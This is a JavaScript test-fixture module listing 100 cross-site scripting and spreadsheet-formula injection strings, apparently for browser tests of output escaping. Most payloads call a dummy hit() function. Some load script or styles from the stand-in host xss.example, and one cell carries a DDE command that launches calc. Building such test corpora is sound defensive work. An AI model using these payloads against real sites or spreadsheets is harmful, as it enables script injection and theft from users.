/**
 * 100 texts that run a script, open an address or become a formula where a place shows text wrongly.
 * Each calls `hit()`, or names `xss.example`, so that a browser test can see it. One per known category:
 * see the OWASP cheat sheets on cross-site scripting and on CSV injection.
 */
const tags = [
  '<script>hit()</script>',
  '<ScRiPt>hit()</sCrIpT>',
  '<script src=//xss.example/a.js></script>',
  '<script/x>hit()</script>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '</textarea><script>hit()</script>',
  '</title><script>hit()</script>',
  '--><script>hit()</script><!--',
  ']]><script>hit()</script>',
  '<iframe src="javascript:hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="javascript:hit()"></object>',
  '<embed src="//xss.example/a.swf">',
  '<base href="//xss.example/">',
  '<link rel=stylesheet href="//xss.example/a.css">',
  '<meta http-equiv=refresh content="0;url=javascript:hit()">',
  '<form action="javascript:hit()"><button>x</button></form>',
  '<button formaction="javascript:hit()">x</button>',
  '<isindex action="javascript:hit()" type=submit>',
  '<template><script>hit()</script></template>',
];
const handlers = [
  '<img src=x onerror=hit()>',
  '<img src=x onerror="hit()"//',
  '<img/src=x/onerror=hit()>',
  '<img src=x:x onerror\u000B=hit()>',
  '<body onload=hit()>',
  '<input autofocus onfocus=hit()>',
  '<select autofocus onfocus=hit()>',
  '<details open ontoggle=hit()>',
  '<video><source onerror=hit()></video>',
  '<audio src=x onerror=hit()>',
  '<marquee onstart=hit()>',
  '<div onpointerover=hit()>x</div>',
  '<a onclick=hit() href=#>x</a>',
  '<p style="animation-name:x" onanimationstart=hit()>',
  '<img srcset="x 1x" onerror=hit()>',
];
const attributes = [
  '" onmouseover="hit()',
  "' onmouseover='hit()",
  '"><img src=x onerror=hit()>',
  "'><img src=x onerror=hit()>",
  '` onmouseover=`hit()',
  '" autofocus onfocus="hit()" x="',
  '"/><svg onload=hit()>',
  'x" style="background:url(//xss.example)"',
  '\\" onload=\\"hit()',
  '&quot; onload=&quot;hit()',
];
const addresses = [
  'javascript:hit()',
  'JaVaScRiPt:hit()',
  'java\tscript:hit()',
  'java\nscript:hit()',
  '\u0001javascript:hit()',
  ' javascript:hit()',
  'javascript&colon;hit()',
  'javascript:%68it()',
  'javascript://xss.example/%0ahit()',
  'vbscript:hit()',
  'data:text/html,<script>hit()</script>',
  'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
  'blob:https://xss.example/1',
  '//xss.example',
  '/\\xss.example',
  'https://bank.example@xss.example/',
];
const svgAndCss = [
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:hit()"><text y=9>x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg onload=hit()>"/></svg>',
  '<math><mtext><img src=x onerror=hit()></mtext></math>',
  '<style>@import "//xss.example/a.css";</style>',
  '<style>*{background:url(//xss.example/x)}</style>',
  'red;background:url(//xss.example/x)',
  'expression(hit())',
  '</style><script>hit()</script>',
];
const templates = [
  '{{constructor.constructor("hit()")()}}',
  '{{name}}',
  '${hit()}',
  '#{hit()}',
  '<%= hit() %>',
  '[[${hit()}]]',
  '__proto__',
  '$&$`$1',
];
const encodings = [
  '&lt;script&gt;hit()&lt;/script&gt;',
  '&#60;img src=x onerror=hit()&#62;',
  '&#x3c;script&#x3e;hit()&#x3c;/script&#x3e;',
  '%3Cscript%3Ehit()%3C/script%3E',
  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
  '\uFF1Cscript\uFF1Ehit()\uFF1C/script\uFF1E',
  '+ADw-script+AD4-hit()+ADw-/script+AD4-',
  '\u202E>tpircs/<)(tih>tpircs<',
];
const markup = [
  '[x](javascript:hit())',
  '[x](JAVASCRIPT:hit())',
  '![x](//xss.example/x.png)',
  '[x](data:text/html,<script>hit()</script>)',
  '**<img src=x onerror=hit()>**',
];
/** Markup that a parser changes between reading and writing. */
const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<math><mi><style><img title="</style><img src onerror=hit()>">',
];
const cells = [
  '=HYPERLINK("//xss.example","x")',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '-2+3|hit()',
];

export const xssCorpus: readonly string[] = [
  ...tags,
  ...handlers,
  ...attributes,
  ...addresses,
  ...svgAndCss,
  ...templates,
  ...encodings,
  ...markup,
  ...mutations,
  ...cells,
];
